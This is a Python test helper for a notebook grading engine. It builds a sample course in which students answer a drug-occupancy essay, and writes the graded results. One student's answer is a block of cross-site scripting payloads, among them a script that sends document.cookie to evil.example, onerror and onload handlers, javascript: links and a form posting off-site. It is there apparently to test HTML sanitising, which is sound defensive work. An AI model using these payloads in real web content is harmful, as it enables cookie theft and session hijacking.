"""A class whose answers in words wait for a person: written as the grading engine writes, unjailed."""

# ruff: noqa: E501 -- cells stand on few lines

from __future__ import annotations

import dataclasses
import json
import shutil
from typing import TYPE_CHECKING, Any

from snrilab.grading import clean
from snrilab.grading.course import open_course
from snrilab.grading.gradebook import Graded, Writer
from tests.grading import assignments
from tests.grading.conftest import write_course

if TYPE_CHECKING:
    from datetime import datetime
    from pathlib import Path

    from snrilab.grading.course import Course

ESSAY = """Why does occupancy saturate?

### BEGIN SOLUTION
Because there are only so many sites, $B_{max}$.

**Marks.**

- 2 points: a limited number of sites
- 1 or 0.5 points: a number; without a unit: half
- 2 points: what follows for the dose
- -1 point: a claim stronger than its number

Follow-on mistakes cost nothing.
### END SOLUTION"""
TASK = """Design a titration in cells of your own.

### BEGIN MARK SCHEME
- 4 points: steps that double
- 2 points: a reason for the last step
### END MARK SCHEME"""
PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
HOSTILE = """<script>fetch('https://evil.example/'+document.cookie)</script>
<img src=x onerror="alert(1)"> ![beacon](https://evil.example/b.png) [click](javascript:alert(1))
[a paper](https://evil.example/p) <https://evil.example/auto> <style>body{display:none}</style>
<iframe srcdoc="<script>alert(1)</script>"></iframe> <form action=https://evil.example><input name=q></form>
`</script><script>alert(2)</script>` $\\href{javascript:alert(1)}{x}$ &#60;script&#62;alert(3)&#60;/script&#62;
<a href="https://evil.example" onclick="x">link</a> <svg onload=alert(4)> <math><mtext><style><img src=x onerror=alert(5)></style></mtext></math>
"""
GOOD = """# My answer

Sites are *limited*: $\\frac{L}{L + K_d}$ goes to 1.

| dose | share |
|---|---|
| 10 mg | 91 % |

![curve](attachment:picture-1.png)"""
ANSWERS = {
    "anna": GOOD,
    "ben": HOSTILE,
    "emma": "All sites are taken at 10 nM.\n\n" * 12,
    "hans": "Because the drug is strong.",
    "oh": "There are 91 % taken.",
    "zoe": "",
}


def source() -> str:
    """Return an assignment: a test, an essay, code to be read, a task, an essay without a scheme."""
    from nbformat.v4 import new_code_cell, new_markdown_cell

    read = assignments.mark(
        new_code_cell("### BEGIN SOLUTION\nplan = [20, 40]\n### END SOLUTION"),
        "drawn", grade=True, solution=True, points=3,
    )  # fmt: skip
    return assignments.notebook(
        new_markdown_cell("# Occupancy", id="title"),
        assignments.values("drug", "drug = 'a'"),
        assignments.test("test_drug", 5, "assert drug == 'a'"),
        new_markdown_cell("## A. In words\n\nAt most 200 words.", id="part-a"),
        assignments.written("essay", 5, ESSAY),
        new_markdown_cell("## B. A picture", id="part-b"),
        read,
        new_markdown_cell("## C. A plan", id="part-c"),
        assignments.task("plan", 6, TASK),
        new_markdown_cell("## D. Anything else", id="part-d"),
        assignments.written("else", 4, "YOUR ANSWER"),
    )


def graded_notebook(essay: str, student: str) -> dict[str, Any]:
    """Return what the grading engine leaves of a student's work."""
    whole = json.loads(assignments.release(source()))
    for cell in whole["cells"]:
        if cell["id"] == "essay":
            attached = {"picture-1.png": {"image/png": PICTURE}}
            if "attachment:" in essay:
                cell["source"], cell["attachments"] = clean.with_pictures(essay, attached)
            else:
                cell["source"] = clean.markdown(essay)
        if cell["id"] == "drawn":
            cell["source"] = f"plan = [20, 40]  # {student}\nprint('<b>20</b>')"
            cell["outputs"] = [
                {"output_type": "stream", "name": "stdout", "text": "<b>20</b>\n"},
                {"output_type": "display_data", "metadata": {}, "data": {"image/png": PICTURE, "text/plain": "x"}},
                {"output_type": "display_data", "metadata": {}, "data": {
                    "text/html": "<table><caption>Ki</caption><tr><th scope='col'>SERT</th></tr></table><script>alert(6)</script>"}},
            ]  # fmt: skip
    at = next(n for n, cell in enumerate(whole["cells"]) if cell["id"] == "plan") + 1
    own = {
        "cell_type": "markdown",
        "id": "own",
        "metadata": {},
        "source": f"20, then 40: {student}'s plan",
    }
    whole["cells"].insert(at, own)
    return whole


def marking_class(
    root: Path, blank_gradebook: Path, answers: dict[str, str] | None = None
) -> Course:
    """Make a course folder with one assignment, `words`, graded by machine as far as it goes."""
    write_course(root, {"words": source()}, {})
    shutil.copy(blank_gradebook, root / "gradebook.db")
    course = open_course(root)
    grade(course, ANSWERS if answers is None else answers)
    return course


def grade(
    course: Course,
    answers: dict[str, str],
    when: datetime | None = None,
    drug: dict[str, tuple[float | None, str]] | None = None,
) -> list[Graded]:
    """Write what the grading engine finds in these answers; `drug`: in the test, with the reason."""
    templates = course.templates("words")
    writer = Writer(course, "words")
    found = []
    try:
        writer.open(templates)
        for student, essay in answers.items():
            folder = course.folder("autograded", student, "words")
            folder.mkdir(parents=True, exist_ok=True)
            made = json.dumps(graded_notebook(essay, student))
            (folder / "words.ipynb").write_text(made, "utf-8")
            found.append(_graded(student, essay, when, (drug or {}).get(student, (5.0, ""))))
            writer.write(found[-1])
    finally:
        writer.close()
    return found


def hand_in(course: Course, student: str, files: dict[str, bytes]) -> None:
    """Let a student hand in these files, and grade what can be read of them: nothing."""
    from snrilab.grading.classrun import combine, read_submitted

    folder = course.folder("submitted", student, "words")
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    templates = course.templates("words")
    submitted = read_submitted(course, "words", student, templates)
    assert submitted.problems
    result = _graded(student, "", None).notebooks["words"]
    result |= {"error": "", "facts": [], "seconds": {"all": 0.1}, "notebook": {}}
    graded = combine(submitted, {"words": result}, templates)
    folder = course.folder("autograded", student, "words")
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "words.ipynb").write_text(assignments.release(source()), "utf-8")
    writer = Writer(course, "words")
    try:
        writer.open(templates)
        writer.write(graded)
    finally:
        writer.close()


def _graded(
    student: str, essay: str, when: datetime | None, drug: tuple[float | None, str] = (5.0, "")
) -> Graded:
    from snrilab.grading.scoring import WAITS, Verdict

    given = {"test_drug": (drug[0], 5), "drawn": (None, 3), "plan": (None, 6), "else": (0.0, 4)}
    given["essay"] = (None if essay else 0.0), 5
    why = f"{WAITS}: it holds text elsewhere" if student == "oh" else ""
    verdicts = [
        dataclasses.asdict(
            Verdict(name, score, points, why, essay if name == "essay" else "", bool(why))
        )
        for name, (score, points) in given.items()
    ]
    verdicts[0]["reason"] = drug[1]
    notes = {"else": "No response.", **({} if essay else {"essay": "No response."})}
    result = {"verdicts": verdicts, "comments": notes, "misconceptions": {}}
    return Graded(student, f"{student}{essay}", "t", when, {"words": result}, [], 0.1)
